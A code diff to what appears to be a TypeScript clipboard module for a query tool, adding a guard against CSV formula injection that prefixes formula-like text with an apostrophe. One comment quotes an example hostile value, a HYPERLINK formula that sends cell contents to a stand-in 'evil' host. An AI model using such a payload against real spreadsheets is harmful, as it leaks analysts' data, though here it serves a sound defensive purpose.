@@ -6,6 +6,18 @@
 // CSV: fields holding `,` `"` CR or LF are quoted with quotes doubled; NULL is an empty field and
 // empty text is `""`, so the two stay apart; records end with CRLF.
 // Both: when more than one record is copied, each ends with its line break (see `records`).
+//
+// The formula guard (`formulaGuard`), on by default in both formats: pasting TSV or CSV into a
+// spreadsheet interprets a cell that starts like a formula just as opening a CSV file does (CSV
+// formula injection), so a hostile value in a table (`=HYPERLINK("http://evil/?"&A1,"x")`) would
+// run in the analyst's spreadsheet. Copies get the rule Export and `warden query --format csv`
+// apply (`looks_like_formula` in crates/results/src/export.rs): text, a column name included,
+// starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`. Only text:
+// numbers (`-5` too), booleans and NULL arrive typed and are never changed, as the backend
+// never changes its Int, Float, Bool and Null values. A single cell copied alone is guarded too:
+// pasted into a spreadsheet cell it is interpreted like any other. The grid's menu has "Copy
+// values as-is" for pasting into a text editor or another SQL tool, and the grid says how many
+// values a copy changed.
 
 import type { CellValue } from "./api";
 
@@ -13,6 +25,20 @@ import type { CellValue } from "./api";
 export const MAX_COPY_ROWS = 5_000;
 
 export type CopyFormat = "tsv" | "csv";
+
+/** How a spreadsheet starts a formula: the leading characters Export guards. */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/**
+ * The formula guard: text that starts like a spreadsheet formula with a leading `'`; any other
+ * value (a number, a boolean, NULL, other text) unchanged. The one place the UI holds the rule.
+ */
+export function formulaGuard<T extends CellValue | undefined>(value: T): T | string {
+  return typeof value === "string" && FORMULA_START.test(value) ? `'${value}` : value;
+}
+
+/** Whether copied values go through `formulaGuard` (the default) or are copied as they are. */
+export type CopyValues = "guarded" | "as-is";
 
 function plain(value: CellValue): string {
   return typeof value === "boolean" ? (value ? "true" : "false") : String(value);
@@ -98,7 +124,27 @@ export function cut(rows: CellValue[][], selection: Selection): CellValue[][] {
   return rows.map((row) => row.slice(selection.firstColumn, selection.lastColumn + 1));
 }
 
-/** The text of copied rows in `format`; `header` names the columns. */
-export function formatRows(format: CopyFormat, rows: CellValue[][], header?: string[]): string {
-  return format === "csv" ? toCsv(rows, header) : toTsv(rows, header);
+/** What a copy puts on the clipboard, and how many values and column names the guard changed. */
+export interface Copied {
+  text: string;
+  guardedValues: number;
+  guardedNames: number;
+}
+
+/**
+ * The text of copied rows in `format`, `header` naming the columns; every value and name goes
+ * through the formula guard unless `values` is "as-is".
+ */
+export function formatRows(format: CopyFormat, rows: CellValue[][], header?: string[], values: CopyValues = "guarded"): Copied {
+  const guarded = { values: 0, names: 0 };
+  const guard = (kind: keyof typeof guarded) => <T extends CellValue | undefined>(value: T): T | string => {
+    if (values === "as-is") return value;
+    const safe = formulaGuard(value);
+    if (safe !== value) guarded[kind] += 1;
+    return safe;
+  };
+  const safeRows = rows.map((row) => row.map(guard("values")));
+  const safeHeader = header?.map(guard("names"));
+  const text = format === "csv" ? toCsv(safeRows, safeHeader) : toTsv(safeRows, safeHeader);
+  return { text, guardedValues: guarded.values, guardedNames: guarded.names };
 }
